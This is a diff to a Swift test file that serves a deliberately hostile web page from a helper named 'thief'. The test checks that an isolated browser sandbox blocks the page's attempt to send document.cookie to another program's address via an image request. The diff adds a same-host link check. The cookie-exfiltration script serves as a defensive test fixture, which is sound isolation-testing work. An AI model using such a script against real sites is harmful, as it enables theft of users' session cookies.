@@ -38,7 +38,7 @@ import Testing
     private static func thief(_ other: OtherProgram) -> RawInstance {
         let page = """
             <!doctype html><title>x</title><style>body { color: rgb(1, 2, 3) }</style><body>
-            <script src="/own.js"></script>
+            <a href="http://HOST/next.do">next</a><script src="/own.js"></script>
             <script>
             const away = '\(other.address)/stolen?' + document.cookie;
             var tried = Promise.all([
@@ -47,14 +47,21 @@ import Testing
                 const image = new Image(); image.onload = image.onerror = () => done('tried'); image.src = away }),
               fetch('/own.json').then(answer => answer.text()),
             ]).then(how => [document.cookie.includes('of-the-user'), how[0], how[2], document.title,
-              getComputedStyle(document.body).color, location.hostname]);
+              getComputedStyle(document.body).color, location.hostname,
+              document.links[0].host == location.host]);
             </script>
             """
         return RawInstance { request in
             switch request.split(separator: " ").dropFirst().first {
             case "/own.js": RawInstance.answer(type: "text/javascript", body: "document.title = 'own script'")
             case "/own.json": RawInstance.answer(body: "{}")
-            default: RawInstance.answer(type: "text/html", body: page)
+            default:
+                // A link with the instance's own address.
+                RawInstance.answer(
+                    type: "text/html",
+                    body: page.replacing(
+                        "HOST",
+                        with: request.split(separator: "\r\n").first { $0.hasPrefix("Host: ") }?.dropFirst(6) ?? ""))
             }
         }
     }
@@ -88,7 +95,8 @@ import Testing
             let ended = await served.end()
             let host = page.seen[5]?.scalarText ?? ""
             #expect(
-                page.seen == [false, "blocked", "{}", "own script", "rgb(1, 2, 3)", .string(host)], "\(page) \(ended)")
+                page.seen == [false, "blocked", "{}", "own script", "rgb(1, 2, 3)", .string(host), true],
+                "\(page) \(ended)")
             #expect(host.hasSuffix(".localhost") && host.count == 42)
             #expect(page.paths == ["/"], "\(arguments)")
             #expect(ended.errors.contains("http://\(host):"), "\(ended)")
